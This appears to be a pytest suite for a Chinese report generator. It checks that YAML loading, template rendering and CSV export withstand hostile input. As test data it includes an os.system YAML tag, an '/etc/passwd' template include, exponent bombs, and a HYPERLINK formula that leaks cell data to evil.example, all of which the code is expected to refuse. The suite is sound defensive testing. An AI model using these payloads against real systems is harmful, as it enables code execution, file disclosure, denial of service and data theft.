"""Hostile or unlucky configuration, commentary and outputs (issue 17): every YAML file goes through one bounded
loader, every template through one bounded sandbox, every date and population is checked in the models, every
CSV cell for Excel is neutralised, and --strict refuses a line that runs past the type area.  Each class is
tested as a class (Hypothesis where it is open-ended), not only by the example in the issue."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import subprocess
import sys
import time
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from reportgen.config.load import load_model
from reportgen.config.models import PeriodFile, Profile, ReportKind, Taxonomy
from reportgen.errors import ConfigError, RenderError
from reportgen.narrative import Footnotes, Wording, render_markdown
from reportgen.render.csvsafe import cell, csv_bytes
from reportgen.sandbox import MAX_WIDTH, BoundedSandbox, TemplateLimit, template_problem
from reportgen.yamlio import MAX_BYTES, MAX_DEPTH, load_yaml


FAST = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])


def _write(folder: Path, name: str, text: str) -> Path:
    path = folder / name
    path.write_text(text, encoding="utf-8")
    return path


# --- one YAML loader: bounded depth, aliases and size; never a traceback ---------------------------------

@FAST
@given(st.lists(st.sampled_from(list("[]{}:,-&*ab \n'\"!#?|>\t\x00é") + ["&a ", "*a", "- ", ": ", "!!python/name:os.system ",
                                                                         "2023-02-30", "? ", "<<: *a"]),
                max_size=120).map("".join))
def test_the_yaml_loader_only_ever_raises_its_own_message(tmp_path_factory, text):
    path = _write(tmp_path_factory.mktemp("y"), "f.yaml", text)
    try:
        load_yaml(path)
    except ConfigError as exc:
        assert str(exc).startswith("配置错误：文件 ")


@FAST
@given(depth=st.integers(1, 6000), flow=st.booleans())
def test_nesting_beyond_the_bound_is_refused_and_within_it_loads(tmp_path_factory, depth, flow):
    if flow:
        text = "a: " + "[" * depth + "]" * depth + "\n"
    else:
        depth = min(depth, 300)
        text = "".join(" " * i + f"k{i}:\n" for i in range(depth)) + " " * depth + "v\n"
    path = _write(tmp_path_factory.mktemp("y"), "f.yaml", text)
    levels = depth + 1                                  # the top mapping, then each bracket or key
    if levels <= MAX_DEPTH:
        load_yaml(path)
    else:
        with pytest.raises(ConfigError, match=f"嵌套超过 {MAX_DEPTH} 层"):
            load_yaml(path)


@FAST
@given(n=st.integers(1, 200))
def test_aliases_that_nest_deep_only_when_expanded_are_refused(tmp_path_factory, n):
    text = "".join(f"x{i}: &a{i} [{'*a' + str(i - 1) if i else 1}]\n" for i in range(n))
    path = _write(tmp_path_factory.mktemp("y"), "f.yaml", text)
    if n + 2 <= MAX_DEPTH:                              # the top mapping, x{n-1}'s list, n-1 lists inside, the 1
        load_yaml(path)
    else:
        with pytest.raises(ConfigError, match="嵌套超过"):
            load_yaml(path)


@pytest.mark.parametrize("text", ["a: &a [1, *a]\n", "a: &a {b: [c, *a]}\n", "- &x [[[*x]]]\n",
                                  "a: &a\n  b: *a\n"])
def test_an_alias_inside_its_own_anchor_is_refused(tmp_path, text):
    with pytest.raises(ConfigError, match="引用了包含它自己的锚点"):
        load_yaml(_write(tmp_path, "f.yaml", text))


def test_a_file_larger_than_the_bound_is_not_read(tmp_path):
    path = tmp_path / "big.yaml"
    path.write_bytes(b"a: " + b"x" * (MAX_BYTES + 1) + b"\n")
    with pytest.raises(ConfigError, match="超过配置文件的上限"):
        load_yaml(path)


# --- dates and populations: checked in the models, with file, line, key path and value -------------------

def _period_file(tmp_path: Path, document_date: str) -> Path:
    return _write(tmp_path, "p.yaml", "report: annual\nperiod: \"2023\"\nissuer: 某局\n"
                  f"document_date: {document_date}\nsources:\n  records:\n    - path: r.csv\n")


@FAST
@given(y=st.integers(1900, 2100), m=st.integers(0, 14), d=st.integers(0, 33))
def test_every_impossible_document_date_is_named(tmp_path_factory, y, m, d):
    text = f"{y:04d}-{m:02d}-{d:02d}"
    path = _period_file(tmp_path_factory.mktemp("p"), text)
    try:
        real = dt.date(y, m, d)
    except ValueError:
        real = None
    if real is not None:
        assert load_model(path, PeriodFile)[0].document_date == real
        return
    with pytest.raises(ConfigError) as exc:
        load_model(path, PeriodFile)
    assert exc.value.problems == [f"配置错误：文件 {_shown(path)} 第 4 行，键 document_date：日期 “{text}” 不存在："
                                  + ("月份应为 1～12。" if not 1 <= m <= 12 else
                                     f"{y} 年 {m} 月只有 {__import__('calendar').monthrange(y, m)[1]} 天。")]


def _shown(path: Path) -> str:
    """How a message names a file: relative to the project when inside it, else whole."""
    from reportgen.config.load import display_path

    return display_path(path)


def _profile(tmp_path: Path, population: str) -> Path:
    return _write(tmp_path, "profile.yaml", "city: 某市\nchannels: [电话]\ndispositions: {dispatched: 派单, direct: 直接答复}\n"
                  f"districts:\n  - {{name: 甲区, population_wan: {population}}}\n")


@FAST
@given(st.one_of(st.text(max_size=8), st.decimals(allow_nan=True, allow_infinity=True).map(str),
                 st.integers(-5, 5).map(str), st.sampled_from(["0", "0.0", "约52万", "52万", "-3", "1e3", "NaN", "70.9"])))
def test_a_population_is_a_positive_number_of_wan_or_named(tmp_path_factory, value):
    path = _profile(tmp_path_factory.mktemp("p"), '"' + value.replace("\\", "\\\\").replace('"', '\\"') + '"')
    plain = re.fullmatch(r"\d+(\.\d+)?", value.strip()) is not None and float(value) > 0
    try:
        profile = load_model(path, Profile)[0]
    except ConfigError as exc:
        if any(ch in value for ch in "\x00\x85\u2028\u2029\ufeff") or not value.isprintable():
            return                                   # YAML's own refusal of such characters, also a message
        assert not plain, exc.problems
        assert exc.problems[0].startswith(f"配置错误：文件 {_shown(path)} 第 5 行，键 districts[0].population_wan：")
        assert f"实际为“{value}”" in exc.problems[0]
    else:
        assert plain and profile.districts[0].population_wan == value


# --- extends: a name in the same folder, no path, no ring -------------------------------------------------

@FAST
@given(n=st.integers(1, 6), through_parent=st.booleans())
def test_an_extends_ring_of_any_length_is_refused(tmp_path_factory, n, through_parent):
    folder = tmp_path_factory.mktemp("reports")
    for i in range(n):
        target = f"k{(i + 1) % n}"
        _write(folder, f"k{i}.yaml", f"extends: {'../' + folder.name + '/' if through_parent else ''}{target}\n")
    with pytest.raises(ConfigError) as exc:
        load_model(folder / "k0.yaml", ReportKind)
    assert ("继承成环" in str(exc.value)) != through_parent
    assert ("不含路径" in str(exc.value)) == through_parent


# --- taxonomy remaps: onto known categories, no cycle ------------------------------------------------------

CATS = {"甲": ["a", "b"], "乙": ["a", "c"], "丙": ["b"]}


def _taxonomy(tmp_path: Path, rules: list[tuple[tuple[str, str], tuple[str, str | None]]]) -> Path:
    lines = ["categories:"] + [f"  {k}: [{', '.join(v)}]" for k, v in CATS.items()] + \
        ["remaps:", "  - effective: \"2023-04\"", "    footnote: 说明", "    map:"]
    for (f1, f2), (t1, t2) in rules:
        to = f"{{category_l1: {t1}" + (f", category_l2: {t2}" if t2 else "") + "}"
        lines += [f"      - from: {{category_l1: {f1}, category_l2: {f2}}}", f"        to: {to}"]
    return _write(tmp_path, "taxonomy.yaml", "\n".join(lines) + "\n")


def _has_cycle(rules) -> bool:
    """The oracle: values as nodes, each rule an edge from its source to its target; any cycle."""
    edges: dict[tuple, set] = {}
    for src, (t1, t2) in rules:
        edges.setdefault(src, set()).add((t1, t2 or src[1]))

    def reach(start, node, seen) -> bool:
        for nxt in edges.get(node, ()):
            if nxt == start or (nxt not in seen and reach(start, nxt, seen | {nxt})):
                return True
        return False

    return any(reach(s, s, {s}) for s in edges)


_value = st.sampled_from([("甲", "a"), ("甲", "b"), ("乙", "a"), ("乙", "c"), ("丙", "b")])
_target = st.one_of(_value, _value.map(lambda v: (v[0], None)), st.sampled_from([("丁", None), ("甲", "z")]))


@FAST
@given(rules=st.lists(st.tuples(_value, _target), min_size=1, max_size=5))
def test_remaps_land_on_known_categories_and_never_cycle(tmp_path_factory, rules):
    path = _taxonomy(tmp_path_factory.mktemp("t"), rules)
    unknown = [(t1, t2 or s[1]) for s, (t1, t2) in rules if t1 not in CATS or (t2 or s[1]) not in CATS[t1]]
    bad = bool(unknown) or _has_cycle(rules)
    try:
        load_model(path, Taxonomy)
    except ConfigError as exc:
        assert bad, exc.problems
        assert all(p.startswith(f"配置错误：文件 {_shown(path)} 第 ") and "，键 remaps[0].map[" in p for p in exc.problems)
        assert all(("不在 categories" in p) or ("成环" in p) for p in exc.problems)
    else:
        assert not bad


# --- one sandbox: no file, bounded arithmetic, sizes and time ---------------------------------------------

@pytest.mark.parametrize("tag", ["{% include 'x' %}", "{% import 'x' as y %}", "{% from 'x' import y %}",
                                 "{% extends 'x' %}", "{%- include '/etc/passwd' -%}"])
def test_include_import_and_extends_are_refused_at_load_and_at_render(tag):
    assert "不允许使用" in template_problem("前文" + tag)
    with pytest.raises(ConfigError, match="不允许使用"):
        render_markdown("前文" + tag, {}, "periods/annual-2023.yaml 的 commentary.x")
    with pytest.raises(ConfigError, match="不允许使用"):
        Wording({"k": tag}, Footnotes({})).render("k")


_big = st.integers(2, 10**12)


@settings(max_examples=80, deadline=None)
@given(st.one_of(
    st.tuples(_big, _big).map(lambda t: f"{t[0]}**{t[1]}"),
    st.tuples(_big, _big, _big).map(lambda t: f"{t[0]}**({t[1]}**{t[2]})"),
    st.tuples(st.sampled_from(["'x'", "[1]", "'中文'"]), _big).map(lambda t: f"{t[0]}*{t[1]}"),
    st.tuples(_big, st.integers(1, 40)).map(lambda t: " * ".join([f"{t[0]}**50"] * t[1])),
    _big.map(lambda n: f"'%0{n}d' % 1"),
    _big.map(lambda n: f"'{{:>{n}}}'.format(1)"),
    _big.map(lambda n: f"'a'|center({n})"),
    _big.map(lambda n: f"range({n})|list|length"),
))
def test_any_arithmetic_renders_or_is_refused_quickly(expr):
    """Whatever the numbers, a slot either renders a bounded result or is refused with a message — in well
    under a second, never a hang and never a Python exception."""
    start = time.monotonic()
    try:
        out = str(render_markdown("{{ " + expr + " }}", {}, "periods/p.yaml 的 commentary.x"))
    except ConfigError as exc:
        assert str(exc).startswith("配置错误：periods/p.yaml 的 commentary.x 中引用的数据无法生成：")
    else:
        assert len(out) <= 200_000
        assert max((len(n) for n in re.findall(r"\d+", out)), default=0) <= MAX_WIDTH      # a width, or ~1233 digits
    assert time.monotonic() - start < 1.5


def test_the_issues_power_tower_is_refused_at_once():
    start = time.monotonic()
    with pytest.raises(ConfigError) as exc:
        render_markdown("{{ 9**(9**9) }}", {}, "periods/annual-2023.yaml 的 commentary.preface")
    assert time.monotonic() - start < 0.5
    assert str(exc.value) == ("配置错误：periods/annual-2023.yaml 的 commentary.preface 中引用的数据无法生成：乘方 "
                              "9**387420489 的结果超过 4096 位二进制（约 1233 位十进制），不予计算。")


@pytest.mark.parametrize("source", [
    "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}",
    "{% for i in range(100000) %}{% for j in range(100000) %}{% if i == j %}{% endif %}{% endfor %}{% endfor %}",
])
def test_a_render_is_stopped_at_the_time_limit(source):
    env = BoundedSandbox(autoescape=False)
    env.time_limit = 0.3
    start = time.monotonic()
    with pytest.raises(TemplateLimit, match="计算超过"):
        env.from_string(source).render()
    assert time.monotonic() - start < 2


@pytest.mark.parametrize("source", [
    "{% set ns = namespace(a='x') %}{% for i in range(64) %}{% set ns.a = ns.a ~ ns.a %}{% endfor %}",
    "{% macro f(s, n) %}{{ f(s ~ s, n - 1) if n else s|length }}{% endmacro %}{{ f('x', 64) }}",
    "{{ 'ab'.replace('', 'y' * 90000) }}",
    "{{ '{:{w}}'.format(1, w=10**9) }}",
    "{{ '%*d' % (10**9, 1) }}",
    "{{ 1 / 0 }}",
    "{{ 2.0 ** 5000 }}",
])
def test_growth_and_errors_inside_a_template_are_messages(source):
    with pytest.raises(ConfigError) as exc:
        render_markdown(source, {}, "periods/p.yaml 的 commentary.x")
    assert str(exc.value).startswith("配置错误：periods/p.yaml 的 commentary.x 中引用的数据无法生成：")


def test_wording_and_captions_share_the_bounds():
    w = Wording({"k": "{{ 9**(9**9) }}"}, Footnotes({}), {"k": "config/reports/annual.yaml"})
    with pytest.raises(ConfigError, match="“k” 无法生成：乘方"):
        w.render("k")
    with pytest.raises(TemplateLimit) as exc:                   # a caption is rendered through wording.env
        w.env.from_string("{{ 'x' * 10**9 }}").render()
    assert isinstance(exc.value, ConfigError) and exc.value.problems[0].startswith("配置错误：模板无法生成：")


def test_the_sandbox_keeps_the_reports_own_templates_working():
    env = BoundedSandbox(autoescape=False)
    assert env.from_string("{{ 2**10 }}、{{ 'ab' * 3 }}、{{ '%05.1f' % 3.14159 }}、{{ '{:>4}'.format(7) }}、"
                           "{% for i in range(3) %}{{ i }}{% endfor %}").render() == "1024、ababab、003.1、   7、012"


@pytest.mark.parametrize("snippet", ["{{ 9**(9**9) }}", "{% include 'profile.yaml' %}"])
def test_the_cli_ends_with_the_message_not_a_traceback(project_copy, tmp_path, snippet):
    p = project_copy / "periods" / "annual-2023.yaml"
    p.write_text(p.read_text(encoding="utf-8").replace(
        "commentary:\n", "commentary:\n  overview.reception:\n    after: \"" + snippet.replace('"', '\\"') + "\"\n", 1),
        encoding="utf-8")
    r = subprocess.run([sys.executable, "-m", "reportgen.cli", "render", "annual", "--period", "2023",
                        "--config", str(project_copy), "--out", str(tmp_path / "x.pdf")],
                       capture_output=True, text=True, timeout=120, cwd=tmp_path)
    assert r.returncode == 2, r.stderr
    assert "Traceback" not in r.stderr and "内部错误" not in r.stderr
    assert "commentary.overview.reception" in r.stderr and r.stderr.startswith("配置错误：")
    assert not (tmp_path / "x.pdf").exists()


# --- every message: one closing mark -----------------------------------------------------------------------

def test_no_message_of_the_corpus_ends_in_doubled_punctuation():
    from .bad_inputs.catalogue import load_cases

    doubled = re.compile(r"[？！。，、：；][。，]")
    bad = [m for c in load_cases() for m in c.get("messages", []) if doubled.search(m)]
    assert bad == []


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet="ab.。？！?!“”：", max_size=12), st.sampled_from(["", "。", ".。", "？。", "。。"]))
def test_every_message_ends_its_sentences_with_one_mark(text, tail):
    """Whatever a message is put together from (an English library message ending in '.', a sentence already
    ended, the “。” added around it), the error shows one mark: the check sits where every message passes."""
    from reportgen.errors import ConfigError

    shown = ConfigError(f"配置错误：{text}{tail}").problems[0]
    assert not re.search(r"(?<![.])[.。]。|。。|[？！?!]。", shown), shown


# --- CSV for Excel: no cell is a formula ---------------------------------------------------------------------

FORMULA = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=30))
def test_no_cell_reaches_a_spreadsheet_as_a_formula(text):
    out = cell(text)
    lead = out.lstrip(" \u3000")
    number = re.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?", text.strip())
    assert not lead.startswith(FORMULA) or number
    assert out == text or out == "'" + text                  # nothing else is changed
    back = next(csv.reader(io.StringIO(csv_bytes([[text]]).decode("utf-8-sig"))), [""])
    assert back == [out]


def test_the_rejects_file_writes_a_hyperlink_as_text():
    from reportgen.publish import rejects_csv

    class Row:
        file, row, reason = "r.csv", 7, "-count 不是数字"
        values = {"category_l1": '=HYPERLINK("http://evil.example/?"&A1, "点击")', "count": "-3", "channel": "@SUM(1)"}

    rows = list(csv.reader(io.StringIO(rejects_csv([Row()]).decode("utf-8-sig"))))
    assert rows[0] == ["文件", "行", "原因", "category_l1", "count", "channel"]
    assert rows[1] == ["r.csv", "7", "'-count 不是数字", '\'=HYPERLINK("http://evil.example/?"&A1, "点击")', "-3",
                       "'@SUM(1)"]


# --- --strict: nothing past the type area; long strings in commentary break -------------------------------

def _commentary(project_copy: Path, text: str) -> None:
    p = project_copy / "periods" / "annual-2023.yaml"
    p.write_text(p.read_text(encoding="utf-8").replace(
        "commentary:\n", "commentary:\n  overview.reception:\n    after: '" + text + "'\n", 1), encoding="utf-8")


def test_strict_fails_on_a_line_past_the_type_area_naming_page_and_text(project_copy, tmp_path):
    from reportgen.pipeline import build
    from reportgen.publish import render_to_pdf

    _commentary(project_copy, "共" + "1" * 120 + "件。")        # a number with its unit never breaks (typeset.py)
    built = build("annual", "2023", config_dir=project_copy)
    with pytest.raises(RenderError) as exc:
        render_to_pdf(built, tmp_path / "x.pdf", strict=True)
    assert re.match(r"渲染错误（--strict）：有内容超出版心（页面的排版区域）：第 \d+ 页（页码 \d+）超出 \d+\.\d 毫米：“1{57}…”。", str(exc.value))
    assert not (tmp_path / "x.pdf").exists()
    render_to_pdf(built, tmp_path / "y.pdf")                   # without --strict it is written


@pytest.mark.parametrize("text", ["号码" + "1" * 120 + "。", "见 https://example.com/" + "a" * 200 + "/x.html 。"])
def test_a_long_unbreakable_string_in_commentary_breaks_inside_the_type_area(project_copy, tmp_path, monkeypatch, text):
    from reportgen.pipeline import build
    from reportgen.publish import render_to_pdf
    from reportgen.render import pdf as pdfmod

    found: list = []
    original = pdfmod.outside_type_area
    monkeypatch.setattr(pdfmod, "outside_type_area", lambda *a, **k: found.extend(original(*a, **k)) or found)
    _commentary(project_copy, text)
    render_to_pdf(build("annual", "2023", config_dir=project_copy), tmp_path / "x.pdf", strict=True)
    assert found == []
    from .layout import measure

    assert measure(tmp_path / "x.pdf").overflow == []


def test_strict_measures_tables_by_their_border_box(tmp_path):
    """A table wider than the type area (its columns plus their padding and rules) fails --strict, named as a table."""
    from reportgen.render.pdf import render_pdf
    from reportgen.workspace import FONTS_DIR, RESOURCES, TEMPLATES

    html = ('<html><head><style>@page { size: A4; margin: 37mm 26mm 35mm 28mm; }'
            'table { width: 150mm; table-layout: fixed; border-collapse: collapse; }'
            'td { width: 70mm; padding: 0 3pt; border: 0.5pt solid #000; }</style></head>'
            '<body><p>表</p><table class="wide"><tr><td>1</td><td>2</td><td>3</td></tr></table></body></html>')
    with pytest.raises(RenderError) as exc:
        render_pdf(html, base_url=RESOURCES, allowed_roots=[FONTS_DIR, TEMPLATES, tmp_path], strict=True)
    assert re.match(r"渲染错误（--strict）：有内容超出版心（页面的排版区域）：第 1 页超出 \d+\.\d 毫米：“表格 wide”。", str(exc.value))
    fits = html.replace("width: 70mm", "width: 45mm")
    render_pdf(fits, base_url=RESOURCES, allowed_roots=[FONTS_DIR, TEMPLATES, tmp_path], strict=True)


def test_a_city_edition_extends_the_shared_structure_of_the_same_name(tmp_path):
    from reportgen.workspace import SHARED_REPORTS

    _write(tmp_path, "profile.yaml", "city: 某市\n")          # a city folder: its reports/ may extend the shared ones
    folder = tmp_path / "reports"
    folder.mkdir()
    _write(folder, "annual.yaml", "extends: annual\ntoc_levels: 2\n")
    edition, _ = load_model(folder / "annual.yaml", ReportKind)
    shared, _ = load_model(SHARED_REPORTS / "annual.yaml", ReportKind)
    assert (edition.toc_levels, shared.toc_levels) == (2, 3)
    assert [s.id for s in edition.sections] == [s.id for s in shared.sections]
    _write(folder, "later.yaml", "extends: anual\n")
    with pytest.raises(ConfigError) as exc:
        load_model(folder / "later.yaml", ReportKind)
    assert "找不到被继承的文件 anual.yaml（查找了 " in str(exc.value) and "config/reports/anual.yaml）" in str(exc.value)


def test_an_edition_changes_removes_and_inserts_sections_by_id(tmp_path):
    from reportgen.workspace import SHARED_REPORTS

    _write(tmp_path, "profile.yaml", "city: 某市\n")
    folder = tmp_path / "reports"
    folder.mkdir()
    _write(folder, "annual.yaml", """extends: annual
section_changes:
  - {id: overview, title: 总体情况, params: {top_n: 10}}
  - {id: features, remove: true}
  - {id: notes, after: top_categories, type: chapter, title: 说明}
""")
    edition, _ = load_model(folder / "annual.yaml", ReportKind)
    shared, _ = load_model(SHARED_REPORTS / "annual.yaml", ReportKind)
    ids = [s.id for s in shared.sections]
    want = [i for i in ids if i != "features"]
    want.insert(want.index("top_categories") + 1, "notes")
    assert [s.id for s in edition.sections] == want
    overview = edition.sections[0]
    assert overview.title == "总体情况" and overview.params == {**shared.sections[0].params, "top_n": 10}
    for change, problem in [
            ("{id: overveiw, title: x}", "第 3 行，键 section_changes[0].id：没有 id 为 “overveiw” 的章节，是否应为 “overview”"
                                         "（新增章节请用 before 或 after 指明位置）。"),
            ("{id: overview, after: features, type: chapter}", "第 3 行，键 section_changes[0].id：章节 “overview” 已存在："
                                                              "插入的章节须用新的 id；要修改它请去掉 after。"),
            ("{id: x, before: zzz, type: chapter}", "第 3 行，键 section_changes[0].before：没有 id 为 “zzz” 的章节。"),
            ("{id: features, remove: yes please}", "第 3 行，键 section_changes[0].remove：应为 true（删去该章节），"
                                                   "实际为“yes please”。")]:
        _write(folder, "annual.yaml", f"extends: annual\nsection_changes:\n  - {change}\n")
        with pytest.raises(ConfigError) as exc:
            load_model(folder / "annual.yaml", ReportKind)
        assert exc.value.problems[0].endswith(problem), exc.value.problems[0]
